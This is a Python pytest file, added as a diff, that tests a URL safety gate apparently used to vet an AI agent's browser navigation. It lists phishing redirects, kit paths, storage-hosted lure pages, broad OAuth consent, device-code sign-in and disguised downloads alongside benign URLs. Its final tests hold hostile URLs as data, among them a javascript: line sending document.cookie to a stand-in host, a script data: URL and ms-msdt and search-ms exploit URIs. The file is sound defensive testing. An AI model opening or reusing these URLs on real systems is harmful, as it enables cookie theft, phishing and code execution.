@@ -1,0 +1,227 @@
+"""What opening a URL does, by family of URL: each family has addresses that must ask or block and harmless
+neighbours that must pass. Our own URLs, written from how phishing and malware-URL feeds describe what they
+list (open redirects, kit paths, IPFS and storage-hosted pages, disguised downloads), how OAuth consent and
+device-code sign-in work, how cloud consoles and code hosts lay out their IAM, key and webhook pages, and the
+URI schemes browsers and operating systems hand to other programs."""
+
+from __future__ import annotations
+
+import pytest
+
+from gate import SafetyGate, action_from_dict
+from gate.model import Decision
+
+GATE = SafetyGate()
+
+
+def judged(url: str) -> tuple[Decision, list[str]]:
+    a = GATE.assess(action_from_dict({"type": "navigate", "url": url}))
+    return a.decision, list(a.rules)
+
+
+def asks(url: str, rule: str) -> None:
+    decision, rules = judged(url)
+    assert decision != Decision.ALLOW, url
+    assert rule in rules, (url, rules)
+
+
+def passes(url: str) -> None:
+    decision, rules = judged(url)
+    assert decision == Decision.ALLOW, (url, rules)
+
+
+# -- open redirects: a known host in front, a sign-in or brand page elsewhere behind -------------------------
+
+@pytest.mark.parametrize("url", [
+    "https://news.example.org/redirect?url=https://portal-check.example.top/paypal",
+    "https://www.google.com/url?q=https://secure-paypa1-verify.com/login",
+    "https://shop.example.org/out?next=https%3A%2F%2Fauth.example.net%2Fsignin",
+    "https://forum.example.org/go?target=http://203.0.114.7/",
+    "https://cdn.example.com/link?redirect_to=//wallet-restore.example.xyz/verify",
+])
+def test_open_redirect_to_bait_asks(url: str) -> None:
+    asks(url, "confirm.nav.open-redirect")
+
+
+@pytest.mark.parametrize("url", [
+    "https://example.org/login?next=/dashboard",
+    "https://example.org/redirect?url=/account",
+    "https://www.youtube.com/redirect?q=https://www.youtube.com/watch",
+    "https://www.google.com/url?q=https://docs.python.org/3/library/re.html",
+    "https://accounts.google.com/o/oauth2/v2/auth?client_id=1&redirect_uri=https://app.example.com/cb"
+    "&scope=openid%20email&response_type=code",
+    "https://www.google.com/search?q=https://example.com/login",
+])
+def test_ordinary_redirects_pass(url: str) -> None:
+    passes(url)
+
+
+# -- phishing kits unpacked into a broken-into site's code or upload folders ---------------------------------
+
+@pytest.mark.parametrize("url", [
+    "https://bakery-blog.example.com/wp-includes/js/login.php",
+    "https://shop.example.net/wp-content/plugins/cache/office365/index.php",
+    "https://club.example.org/wp-content/uploads/2024/verify/account.html",
+    "https://site.example.com/.well-known/pki-validation/microsoft/signin.php",
+])
+def test_kit_paths_ask(url: str) -> None:
+    asks(url, "confirm.nav.kit-path")
+
+
+@pytest.mark.parametrize("url", [
+    "https://www.example.com/wp-login.php",
+    "https://www.example.com/wp-admin/index.php",
+    "https://www.example.com/wp-content/uploads/2024/01/photo.jpg",
+    "https://www.example.com/wp-content/themes/simple/style.css",
+    "https://example.com/auth/login",
+])
+def test_ordinary_site_paths_pass(url: str) -> None:
+    passes(url)
+
+
+# -- pages nobody owns a site for: IPFS, raw pastes, storage buckets, free site builders ---------------------
+
+@pytest.mark.parametrize("url", [
+    "https://ipfs.io/ipfs/QmXoypizjW3WknFiJnKLwHCnL72vedxjQkDDP1mXWo6uco/login.html",
+    "https://cloudflare-ipfs.com/ipfs/bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi/index.html",
+    "https://bafybeigdyrzt5sfp7udm7hu76uh7y26nf3efuylqabf3oclgtqy55fbzdi.ipfs.dweb.link/",
+    "https://pastebin.com/raw/Ab12Cd34",
+    "https://storage.googleapis.com/bucket-7781/office.html",
+    "https://files7781.blob.core.windows.net/web/onedrive.htm",
+    "https://bucket-7781.s3.us-east-1.amazonaws.com/review/invoice.svg",
+    "https://sites.google.com/view/microsoft-365-signin",
+    "https://netflix-billing.web.app/update/payment",
+])
+def test_hosted_pages_ask(url: str) -> None:
+    asks(url, "confirm.nav.hosted-page")
+
+
+@pytest.mark.parametrize("url", [
+    "https://ipfs.tech/",
+    "https://docs.ipfs.tech/concepts/what-is-ipfs/",
+    "https://pastebin.com/",
+    "https://storage.googleapis.com/bucket-7781/data/prices-2024.csv",
+    "https://sites.google.com/view/chess-club-schedule",
+    "https://octo-project.github.io/docs/install",
+])
+def test_ordinary_hosted_neighbours_pass(url: str) -> None:
+    passes(url)
+
+
+# -- OAuth consent for a whole mailbox, drive or account; device-code sign-in --------------------------------
+
+@pytest.mark.parametrize("url", [
+    "https://accounts.google.com/o/oauth2/v2/auth?client_id=1&redirect_uri=https://app.example.com/cb"
+    "&scope=https://mail.google.com/&prompt=consent&response_type=code",
+    "https://accounts.google.com/o/oauth2/auth?client_id=1&scope=https://www.googleapis.com/auth/drive"
+    "&response_type=code&redirect_uri=https://app.example.com/cb",
+    "https://login.microsoftonline.com/common/oauth2/v2.0/authorize?client_id=1"
+    "&scope=Mail.ReadWrite%20Files.ReadWrite.All%20offline_access&response_type=code",
+    "https://github.com/login/oauth/authorize?client_id=1&scope=repo%20admin:org",
+])
+def test_broad_consent_asks(url: str) -> None:
+    asks(url, "confirm.nav.broad-consent")
+
+
+@pytest.mark.parametrize("url", [
+    "https://accounts.google.com/o/oauth2/v2/auth?client_id=1&redirect_uri=https://app.example.com/cb"
+    "&scope=openid%20email%20profile&response_type=code",
+    "https://accounts.google.com/o/oauth2/v2/auth?client_id=1&scope=https://www.googleapis.com/auth/drive.file"
+    "&response_type=code",
+    "https://github.com/login/oauth/authorize?client_id=1&scope=read:user",
+])
+def test_narrow_consent_passes(url: str) -> None:
+    passes(url)
+
+
+@pytest.mark.parametrize("url", [
+    "https://microsoft.com/devicelogin",
+    "https://github.com/login/device",
+    "https://www.google.com/device",
+    "https://device.sso.us-east-1.amazonaws.com/?user_code=ABCD-EFGH",
+])
+def test_device_code_pages_ask(url: str) -> None:
+    asks(url, "confirm.nav.device-code")
+
+
+@pytest.mark.parametrize("url", ["https://login.microsoftonline.com/", "https://github.com/login",
+                                 "https://www.google.com/devices/pixel"])
+def test_ordinary_sign_in_passes(url: str) -> None:
+    passes(url)
+
+
+# -- repository and console pages that let someone or something in ------------------------------------------
+
+@pytest.mark.parametrize("url", [
+    "https://github.com/acme/app/settings/keys/new",
+    "https://github.com/acme/app/settings/hooks/new",
+    "https://github.com/acme/app/settings/collaboration",
+    "https://console.aws.amazon.com/iam/home?region=us-east-1#/roles/create",
+])
+def test_access_granting_pages_ask(url: str) -> None:
+    asks(url, "confirm.nav.consequence")
+
+
+@pytest.mark.parametrize("url", [
+    "https://github.com/acme/app/settings",
+    "https://github.com/acme/app/pulls",
+    "https://docs.aws.amazon.com/IAM/latest/UserGuide/id_users_create.html",
+    "https://console.aws.amazon.com/ec2/home?region=us-east-1#Instances:",
+])
+def test_ordinary_console_pages_pass(url: str) -> None:
+    passes(url)
+
+
+# -- downloads that hide an executable: disk images, add-ins, shortcut and notebook files --------------------
+
+@pytest.mark.parametrize("url", [
+    "https://files.example.net/invoice.pdf.exe",
+    "https://files.example.net/shipment.iso",
+    "https://files.example.net/scan.img",
+    "https://files.example.net/report.vhdx",
+    "https://files.example.net/budget.xll",
+    "https://files.example.net/notes.one",
+    "https://files.example.net/viewer.application",
+])
+def test_disguised_downloads_ask(url: str) -> None:
+    asks(url, "confirm.web.executable-download")
+
+
+@pytest.mark.parametrize("url", ["https://files.example.net/invoice.pdf",
+                                 "https://files.example.net/photo.png"])
+def test_documents_pass(url: str) -> None:
+    passes(url)
+
+
+# -- schemes handed outside the browser, and script and file tricks (already judged; kept together here) -----
+
+@pytest.mark.parametrize("url", [
+    "intent://scan/#Intent;scheme=zxing;package=com.example.app;end",
+    "ms-settings:windowsdefender",
+    "x-apple.systempreferences:com.apple.preference.security?Privacy_Accessibility",
+    "sms:+15551234567?body=code",
+    "bitcoin:bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh?amount=0.5",
+    "upi://pay?pa=someone@okbank&am=5000&cu=INR",
+    "chrome://settings/resetProfileSettings",
+    "itms-services://?action=download-manifest&url=https://example.net/app.plist",
+])
+def test_external_handlers_ask(url: str) -> None:
+    decision, _ = judged(url)
+    assert decision != Decision.ALLOW, url
+
+
+@pytest.mark.parametrize("url", [
+    "javascript:fetch('//x.example/'+document.cookie)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+    "ms-msdt:/id PCWDiagnostic /skip force",
+    "search-ms:query=invoice&crumb=location:\\\\files.example.net\\share",
+])
+def test_script_and_exploit_urls_block(url: str) -> None:
+    decision, _ = judged(url)
+    assert decision == Decision.BLOCK, url
+
+
+@pytest.mark.parametrize("url", ["mailto:support@example.com?subject=Question",
+                                 "https://en.wikipedia.org/wiki/Data_URI_scheme"])
+def test_scheme_neighbours_pass(url: str) -> None:
+    passes(url)
